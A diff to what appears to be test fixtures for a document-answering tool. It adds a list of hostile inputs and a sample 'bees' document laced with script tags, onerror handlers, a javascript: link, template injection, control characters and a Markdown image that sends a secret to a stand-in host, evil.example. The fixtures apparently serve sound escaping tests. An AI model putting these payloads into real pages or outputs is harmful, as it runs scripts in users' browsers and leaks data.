@@ -44,6 +44,18 @@ Start with one small project. Show it to somebody who will criticise it.
 2. Find data for it.
 """
 
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "![pixel](https://evil.example/p.png?q=secret)",
+    "[click](javascript:alert(1))",
+    "<a href='https://evil.example'>x</a>",
+    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
+    "\x1b[31mred\x1b[0m \u202e desrever",
+    "&lt;b&gt; & <b>",
+]
+"""What somebody might write into a document or a question to make a page do something."""
+
 
 def small_document(text: str = TEXT, id: str = "degrees", title: str = "Degrees") -> Document:
     return Document(
@@ -147,3 +159,48 @@ class BrokenAdvisor(SmallAdvisor):
 
     def document(self, id: str) -> Document | None:
         raise GroundworkError("The index is gone. Build it again with: groundwork index --rebuild")
+
+
+SOURCES = """
+- {id: huyen, title: The interview book, author: Chip Huyen, published: 2021, kind: guide, url: "https://example.org/b"}
+- {id: survey, title: A survey of developers, publisher: A Survey House, published: 2024, kind: survey, region: world}
+"""
+DOCUMENTS = {
+    "phd.md": """# Do I need a PhD?
+
+## Do I need a PhD to work in machine learning?
+
+No, you do not need a PhD for most machine learning jobs. Chip Huyen said in 2021 that a doctorate is commonly listed
+only for research scientist roles. A survey of 2024 found that few of the people who work in machine learning hold a
+doctorate.
+
+Sources: huyen, survey
+
+## What is a PhD good for?
+
+- A PhD in machine learning opens research scientist roles.
+- A PhD teaches you to work on one question for years.
+
+Sources: huyen
+""",
+    "start.md": """# Starting
+
+## How do I start in machine learning?
+
+Start in machine learning with one small project that you finish. A finished project shows an employer what you can do.
+
+1. Pick a question that you care about.
+2. Find public data that could answer the question.
+3. Write down what you found for somebody who was not there.
+
+Sources: survey
+""",
+    "bees.md": """# Bees
+
+## How do I become a beekeeping data scientist?
+
+A beekeeping data scientist starts by counting bees with <b>care</b> <script>window.ran = 1</script> every day.
+A beekeeping data scientist needs a hive <img src=x onerror="window.ran = 1"> and a notebook ${window.ran = 1}.
+A beekeeping data scientist reads ![a picture](http://example.org/bee.png) one paper a week {{window.ran}}.
+""",
+}
